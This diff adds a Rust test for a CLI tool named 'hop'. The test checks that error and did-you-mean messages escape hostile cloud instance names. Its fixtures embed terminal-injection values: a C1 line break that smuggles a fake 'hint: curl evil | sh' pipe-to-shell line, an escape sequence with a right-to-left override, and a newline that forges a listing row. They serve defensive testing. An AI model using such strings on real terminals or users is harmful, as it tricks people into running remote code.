@@ -6,7 +6,7 @@ use std::process::Stdio;
 use std::time::Duration;
 
 use crate::lab_or_skip;
-use crate::support::Env;
+use crate::support::{Env, hostile, redact_hostile};
 
 #[test]
 fn no_region_fails_fast_even_with_a_silent_metadata_endpoint() {
@@ -172,4 +172,55 @@ fn an_unreadable_config_file_is_named_without_a_line() {
     run.code(2);
     let path = env.path(".config/hop/config.toml");
     assert!(run.stderr.starts_with(&format!("hop: error: {}: cannot read: ", path.display())), "{}", run.stderr);
+}
+
+#[test]
+fn errors_naming_hostile_instances_are_escaped() {
+    let lab = lab_or_skip!();
+    let hostile = hostile(lab);
+    let env = Env::lab(lab);
+    // Ambiguous: the candidates list quotes the Name tags; U+0085 (NEL) is a C1 line break.
+    let twin = hostile["instances"]["nel-twin#1"]["name"].as_str().unwrap();
+    let run = env.hop(&["--region", "sa-east-1", "route", twin]);
+    run.code(2);
+    assert_eq!(run.stdout, "");
+    // Launch times are moto's clock, and same-second launches are ordered by (random) id.
+    let shown = redact_hostile(hostile, &run.stderr);
+    let mut lines: Vec<String> = shown
+        .lines()
+        .map(|l| match l.split_once("  launched ") {
+            Some((head, _)) => format!("{head}  launched <time>"),
+            None => l.to_string(),
+        })
+        .collect();
+    lines[2..4].sort();
+    assert_eq!(
+        lines,
+        [
+            r#"hop: error: "twin\u{85}hint: curl evil | sh" matches 2 instances"#,
+            "hint: candidates:",
+            r"  twin\u{85}hint: curl evil | sh  <nel-twin#1>_______  private 10.9.1.12  public -  sa-east-1a  running  launched <time>",
+            r"  twin\u{85}hint: curl evil | sh  <nel-twin#2>_______  private 10.9.1.13  public -  sa-east-1a  running  launched <time>",
+            "hint: name one by instance id or IP, or pass --newest for the most recently launched",
+        ],
+        "{}",
+        run.stderr
+    );
+    // Unknown: the did-you-mean hint quotes the close names.
+    let run = env.hop(&["--region", "sa-east-1", "route", "gnp.exe"]);
+    run.code(2);
+    assert_eq!(
+        run.stderr,
+        "hop: error: no instance matches \"gnp.exe\" in sa-east-1\n\
+         hint: did you mean: web\\u{9b}31m\\u{202e}gnp.exe\n\
+         hint: `hop ls` lists every instance; add --region for other regions, --refresh if it is new\n"
+    );
+    let run = env.hop(&["--region", "sa-east-1", "route", "forged-row"]);
+    run.code(2);
+    assert_eq!(
+        run.stderr,
+        "hop: error: no instance matches \"forged-row\" in sa-east-1\n\
+         hint: did you mean: web\\nforged-row   i-0f0f0f0f0f0f0f0f0  running  10.9.1.99\n\
+         hint: `hop ls` lists every instance; add --region for other regions, --refresh if it is new\n"
+    );
 }
